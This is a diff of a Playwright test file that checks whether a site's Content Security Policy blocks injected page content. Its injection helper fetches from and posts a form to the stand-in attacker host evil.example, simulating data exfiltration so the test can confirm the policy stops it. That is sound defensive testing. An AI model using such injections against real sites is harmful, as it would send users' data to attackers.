@@ -38,7 +38,7 @@ test('S9 the browser runs nothing that was put into a page, and sends nothing el
   page,
   watch,
 }) => {
-  watch.expectFault(/Content Security Policy/);
+  watch.expectError(/Content Security Policy/);
   watch.addHome('https://evil.example');
   const failures: string[] = [];
   page.on('requestfailed', (request) => failures.push(request.failure()?.errorText ?? ''));
@@ -73,10 +73,10 @@ test('source maps name files of the repository only', () => {
   expect(sources.filter((source) => source.startsWith('/') || source.includes(root))).toEqual([]);
 });
 
-/** One for each thing that is planted. */
+/** One for each injection. */
 const expectedViolations = 8;
 
-/** What an attacker would put into a page; says what ran, and what the policy stopped. */
+/** Typical injections into a page; returns which of them ran and which the policy stopped. */
 async function plant(page: Page): Promise<{ ran: string[]; directives: string[] }> {
   return page.evaluate(async (expected) => {
     const ran: string[] = [];
@@ -103,7 +103,7 @@ async function plant(page: Page): Promise<{ ran: string[]; directives: string[] 
     await fetch('https://evil.example/').catch(() => null);
     const form = add('form', { action: 'https://evil.example/', method: 'post' });
     if (form instanceof HTMLFormElement) form.submit();
-    // The browser says what it stopped when it has the time; the limit is for one that stops nothing.
+    // The browser reports violations with a delay; the limit is for one that stops nothing.
     const endMs = performance.now() + 20_000;
     while (directives.length < expected && performance.now() < endMs)
       await new Promise((resolve) => setTimeout(resolve, 50));
